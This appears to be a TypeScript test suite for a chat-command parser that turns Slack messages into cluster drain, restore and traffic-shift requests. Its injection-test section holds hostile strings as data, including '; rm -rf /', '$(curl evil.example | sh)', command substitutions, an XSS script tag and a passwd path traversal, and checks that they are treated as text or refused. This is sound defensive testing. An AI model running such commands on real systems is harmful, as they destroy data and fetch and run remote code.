import fc from 'fast-check';
import {
  type ChatCommand,
  chatRequester,
  MAX_COMMAND_TEXT,
  parseChatCommand,
  type ShiftingChatCommand,
  toShiftRequest,
} from '../../../core/chat/parse-command';
import { CHAT_COMMANDS } from '../../../core/chat-commands';
import { GUARDRAIL_NAMES, isForceable } from '../../../core/guardrail-names';
import { config } from '../fixtures';

const ARN = 'arn:aws:states:eu-west-1:123456789012:execution:clustershift-shift:slack-drain-blue-1';

const messageOf = (parsed: ChatCommand): string =>
  parsed.command === 'invalid' || parsed.command === 'unknown'
    ? parsed.message
    : `parsed as ${parsed.command}`;

describe('parseChatCommand: every command', () => {
  it.each<[string, ChatCommand]>([
    ['', { command: 'help' }],
    ['help', { command: 'help' }],
    ['help drain', { command: 'help' }],
    ['status', { command: 'status' }],
    ['STATUS', { command: 'status' }],
    ['history', { command: 'history', limit: 10 }],
    ['history 5', { command: 'history', limit: 5 }],
    ['plan drain blue', { command: 'plan', action: 'drain', cluster: 'blue', options: {} }],
    [
      'plan failover green --force last-cluster',
      {
        command: 'plan',
        action: 'failover',
        cluster: 'green',
        options: { force: ['last-cluster'] },
      },
    ],
    [
      'plan shift blue=50,green=50',
      { command: 'plan', action: 'shift', weights: { blue: 50, green: 50 }, options: {} },
    ],
    [
      'drain blue upgrading to 1.31',
      {
        command: 'drain',
        cluster: 'blue',
        reason: 'upgrading to 1.31',
        options: {},
      },
    ],
    [
      'restore blue upgrade done',
      { command: 'restore', cluster: 'blue', reason: 'upgrade done', options: {} },
    ],
    [
      'shift blue=20,green=80 canary of green',
      {
        command: 'shift',
        weights: { blue: 20, green: 80 },
        reason: 'canary of green',
        options: {},
      },
    ],
    [
      'shift blue=20 green=80 canary',
      { command: 'shift', weights: { blue: 20, green: 80 }, reason: 'canary', options: {} },
    ],
    ['pause', { command: 'pause' }],
    ['resume slack-drain-blue-1', { command: 'resume', execution: 'slack-drain-blue-1' }],
    [`approve ${ARN}`, { command: 'approve', execution: ARN }],
    ['pause --execution slack-drain-blue-1', { command: 'pause', execution: 'slack-drain-blue-1' }],
    ['abort', { command: 'abort' }],
    ['abort errors rising', { command: 'abort', reason: 'errors rising' }],
    [`abort ${ARN} errors rising`, { command: 'abort', execution: ARN, reason: 'errors rising' }],
    [
      'abort --execution slack-drain-blue-1 5xx',
      { command: 'abort', execution: 'slack-drain-blue-1', reason: '5xx' },
    ],
    ['freeze change freeze for the sale', { command: 'freeze', reason: 'change freeze for the sale' }],
    ['unfreeze', { command: 'unfreeze' }],
  ])('%j', (text, expected) => {
    expect(parseChatCommand(text)).toEqual(expected);
  });

  it('reads every option of a shift', () => {
    const parsed = parseChatCommand(
      'drain blue --force receiver-alarm,frozen --steps 0.25,.5,1 --bake 120 --pause-before 2,3 --dry-run rotation',
    );

    expect(parsed).toEqual({
      command: 'drain',
      cluster: 'blue',
      reason: 'rotation',
      options: {
        force: ['receiver-alarm', 'frozen'],
        steps: [0.25, 0.5, 1],
        bakeSeconds: 120,
        pauseBeforeSteps: [1, 2],
        dryRun: true,
      },
    });
  });

  it('takes options anywhere after the command, and --name=value alike', () => {
    expect(parseChatCommand('drain blue node --steps=0.5,1 rotation')).toEqual({
      command: 'drain',
      cluster: 'blue',
      reason: 'node rotation',
      options: { steps: [0.5, 1] },
    });
  });
});

describe('parseChatCommand: quoting', () => {
  it.each([
    ['double quotes', 'drain blue "node pool rotation" --dry-run', 'node pool rotation'],
    ['single quotes', "drain blue 'node pool rotation'", 'node pool rotation'],
    ['smart double quotes', 'drain blue “node pool rotation”', 'node pool rotation'],
    ['smart single quotes', 'drain blue ‘node pool rotation’', 'node pool rotation'],
    ['an apostrophe inside a word', "drain blue node pool's rotation", "node pool's rotation"],
    ['a smart apostrophe inside quotes', 'drain blue “pool’s rotation”', "pool's rotation"],
    ['dashes inside quotes, as text', 'drain blue "--force frozen"', '--force frozen'],
    ['dashes after --, as text', 'drain blue -- --force frozen', '--force frozen'],
  ])('%s', (_what, text, reason) => {
    expect(parseChatCommand(text)).toMatchObject({ command: 'drain', reason, options: {} });
  });

  it('reads a typographic dash (—dry-run) as an option, as Slack may send --dry-run', () => {
    expect(parseChatCommand('drain blue rotation —dry-run')).toMatchObject({ options: { dryRun: true } });
  });

  it('refuses an unclosed quote, naming the command it spoils', () => {
    expect(parseChatCommand('drain blue "node pool')).toEqual({
      command: 'invalid',
      attempted: 'drain',
      message: expect.stringMatching(/unclosed " quote/),
    });
  });
});

describe('parseChatCommand: refusals name the problem', () => {
  it.each([
    ['a missing cluster', 'drain', /drain needs a cluster: drain <cluster> <reason>/],
    ['an upper-case cluster', 'drain Blue rotation', /"Blue" is not a cluster name/],
    ['a cluster with a slash', 'restore blue/green rotation', /"blue\/green" is not a cluster name/],
    ['a cluster that is too long', `drain ${'a'.repeat(32)} rotation`, /is not a cluster name/],
    ['a drain without a reason', 'drain blue', /drain needs a reason/],
    ['a drain whose reason is only options', 'drain blue --dry-run', /drain needs a reason/],
    ['a restore without a reason', 'restore blue --steps 0.5,1', /restore needs a reason/],
    ['a shift without a reason', 'shift blue=20,green=80', /shift needs a reason/],
    ['a freeze without a reason', 'freeze', /freeze needs a reason/],
    ['a shift without weights', 'shift canary', /shift needs weights first.*got "canary"/],
    ['a non-numeric percent', 'shift blue=twenty,green=80 x', /blue: percent must be a whole number/],
    ['a cluster given twice', 'shift blue=20,blue=80 x', /blue is given twice/],
    ['a plan without an action', 'plan', /plan needs an action \(drain, restore, shift, failover\)/],
    ['a plan of an unknown action', 'plan explode blue', /plan needs an action .*got "explode"/],
    ['a plan with a reason', 'plan drain blue because', /plan takes no reason/],
    ['an unknown option', 'drain blue x --yes', /unknown option "--yes" \(options: --force, --steps/],
    ['an option given twice', 'drain blue x --bake 1 --bake 2', /--bake is given twice/],
    ['an option without its value', 'drain blue x --steps', /--steps needs a value, e.g. --steps 0.25,0.5,1/],
    ['an option followed by another', 'drain blue x --steps --dry-run', /--steps needs a value/],
    ['a value on --dry-run', 'drain blue x --dry-run=yes', /--dry-run takes no value/],
    ['a step that is not a number', 'drain blue x --steps 0.5,half', /--steps: "half" is not a fraction/],
    [
      'a bake that is not whole seconds',
      'drain blue x --bake 2m',
      /--bake: expected whole seconds, got "2m"/,
    ],
    [
      'a pause before step 0',
      'drain blue x --pause-before 0',
      /--pause-before: expected step numbers from 1/,
    ],
    ['an unknown guardrail', 'drain blue x --force everything', /--force: unknown guardrail "everything"/],
    ['forcing empty-route', 'drain blue x --force empty-route', /empty-route can never be forced/],
    ['options on a command without any', 'freeze --force all', /freeze takes no options/],
    ['arguments to status', 'status blue', /status takes no arguments, got "blue"/],
    ['arguments to unfreeze', 'unfreeze now', /unfreeze takes no arguments/],
    ['a history count out of range', 'history 500', /count must be a whole number from 1 to 50/],
    ['a bad execution name', 'pause exec/1', /"exec\/1" is not an execution name or execution ARN/],
    ['two executions', 'resume one two', /resume takes one execution at most/],
    ['an execution named twice', 'pause one --execution two', /name the execution once/],
    ['an over-long command', `drain blue ${'x'.repeat(MAX_COMMAND_TEXT)}`, /longer than 1000 characters/],
    ['a newline', 'drain blue rotation\n--force frozen', /control character \(U\+000A\)/],
    ['a bidirectional override', 'drain blue rotation \u202Etxt.exe', /control character \(U\+202E\)/],
  ])('%s', (_what, text, message) => {
    const parsed = parseChatCommand(text);

    expect(parsed.command).toBe('invalid');
    expect(messageOf(parsed)).toMatch(message);
  });

  it('answers an unknown command with unknown, suggesting a near one', () => {
    expect(parseChatCommand('drian blue rotation')).toEqual({
      command: 'unknown',
      message: 'unknown command "drian" (did you mean drain?)',
    });
    expect(parseChatCommand('reboot everything')).toEqual({
      command: 'unknown',
      message: 'unknown command "reboot"',
    });
  });

  it('shows help whatever follows help, a stray quote included', () => {
    expect(parseChatCommand('help "drain')).toEqual({ command: 'help' });
  });

  it('does not take a quoted first word as a command', () => {
    expect(parseChatCommand('"drain" blue rotation').command).toBe('unknown');
  });
});

describe('parseChatCommand: injection attempts are text or refused', () => {
  it.each([
    ['drain blue ; rm -rf /', '; rm -rf /'],
    ['drain blue $(curl evil.example | sh)', '$(curl evil.example | sh)'],
    ['drain blue `id`', '`id`'],
    ['drain blue <script>alert(1)</script>', '<script>alert(1)</script>'],
    ['drain blue <!channel> && reboot', '<!channel> && reboot'],
  ])('%j is a reason, no more', (text, reason) => {
    expect(parseChatCommand(text)).toEqual({ command: 'drain', cluster: 'blue', reason, options: {} });
  });

  it.each([
    ['drain blue x --force=all', /unknown guardrail "all"/],
    ['drain blue x --force *', /unknown guardrail "\*"/],
    ['drain blue x --force frozen;rm', /unknown guardrail "frozen;rm"/],
    ['drain blue;reboot x', /is not a cluster name/],
    ['drain $(whoami) x', /is not a cluster name/],
    ['pause ../../etc/passwd', /is not an execution name/],
  ])('%j is refused', (text, message) => {
    expect(messageOf(parseChatCommand(text))).toMatch(message);
  });

  const KINDS = new Set<string>([...CHAT_COMMANDS, 'unknown', 'invalid']);
  const FORCEABLE = new Set<string>(GUARDRAIL_NAMES.filter(isForceable));
  const word = fc.oneof(
    fc.constantFrom(
      ...CHAT_COMMANDS,
      '--force',
      '--steps',
      '--bake',
      '--pause-before',
      '--dry-run',
      '--execution',
    ),
    fc.constantFrom('"', "'", '“', '”', '‘', '’', '—', '--', '=', ',', '$(', '`', ';', '<', '>', '&'),
    fc.constantFrom(...GUARDRAIL_NAMES, 'all', 'blue', 'green', 'blue=20,green=80', '0.5,1', '2,3', ARN),
    fc.string({ maxLength: 12 }),
    fc.string({ unit: 'binary', maxLength: 8 }),
  );
  const commandText = fc.oneof(
    fc.string({ maxLength: 1_200 }),
    fc.string({ unit: 'binary', maxLength: 200 }),
    fc.array(word, { maxLength: 12 }).map((words) => words.join(' ')),
    fc.array(word, { maxLength: 12 }).map((words) => words.join('')),
  );

  it('never throws, always answers with a known kind, and never forces a guardrail it does not know', () => {
    fc.assert(
      fc.property(commandText, (text) => {
        const parsed = parseChatCommand(text);

        expect(KINDS.has(parsed.command)).toBe(true);
        if ('options' in parsed) {
          for (const name of parsed.options.force ?? []) expect(FORCEABLE.has(name)).toBe(true);
        }
        if (parsed.command === 'invalid' || parsed.command === 'unknown') {
          expect(parsed.message.length).toBeGreaterThan(0);
          expect(parsed.message.length).toBeLessThan(400);
        }
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('chatRequester', () => {
  it('names the source, the user id and the user name', () => {
    expect(chatRequester('slack', 'U123', 'alice')).toBe('slack:U123 (alice)');
    expect(chatRequester('webhook', 'ops-bot')).toBe('webhook:ops-bot');
  });
});

describe('toShiftRequest', () => {
  const cfg = config(['blue', 'green']);
  const shifting = (text: string): ShiftingChatCommand => {
    const parsed = parseChatCommand(text);
    if (
      parsed.command !== 'plan' &&
      parsed.command !== 'drain' &&
      parsed.command !== 'restore' &&
      parsed.command !== 'shift'
    )
      throw new Error(`expected a shifting command, got ${JSON.stringify(parsed)}`);
    return parsed;
  };
  const errorOf = (text: string): string => {
    try {
      toShiftRequest(shifting(text), cfg, 'slack:U123 (alice)');
      return 'accepted';
    } catch (error) {
      return `${(error as Error).name}: ${(error as Error).message}`;
    }
  };

  it('builds a drain as the workflow takes it, with who asked', () => {
    const request = toShiftRequest(
      shifting('drain blue upgrading --steps 0.5,1 --pause-before 2 --force receiver-alarm'),
      cfg,
      'slack:U123 (alice)',
    );

    expect(request).toEqual({
      action: 'drain',
      cluster: 'blue',
      reason: 'upgrading',
      requestedBy: 'slack:U123 (alice)',
      steps: [0.5, 1],
      pauseBeforeSteps: [1],
      force: ['receiver-alarm'],
      dryRun: false,
    });
  });

  it('builds a shift with its weights', () => {
    expect(toShiftRequest(shifting('shift blue=20,green=80 canary'), cfg, 'webhook:ops-bot')).toMatchObject({
      action: 'shift',
      weights: { blue: 20, green: 80 },
      reason: 'canary',
    });
  });

  it('builds a plan as a dry run', () => {
    expect(toShiftRequest(shifting('plan restore blue'), cfg, 'slack:U123')).toMatchObject({
      action: 'restore',
      cluster: 'blue',
      dryRun: true,
      reason: 'plan from chat',
    });
  });

  it.each([
    ['an unknown cluster', 'drain purple rotation', /InvalidRequest: .*cluster: unknown cluster "purple"/],
    [
      'weights not summing to 100',
      'shift blue=20,green=70 canary',
      /weights: percentages must sum to 100, got 90/,
    ],
    ['a weight over 100', 'shift blue=200 canary', /weights\.blue/],
    ['steps out of order', 'drain blue x --steps 0.5,0.25,1', /steps: steps must be strictly increasing/],
    [
      'a pause after the last step',
      'drain blue x --pause-before 9',
      /pauseBeforeSteps\.0: there are only 4 steps/,
    ],
    ['a bake over a day', 'drain blue x --bake 90000', /bakeSeconds/],
  ])('refuses %s exactly as the workflow would', (_what, text, message) => {
    expect(errorOf(text)).toMatch(message);
  });
});
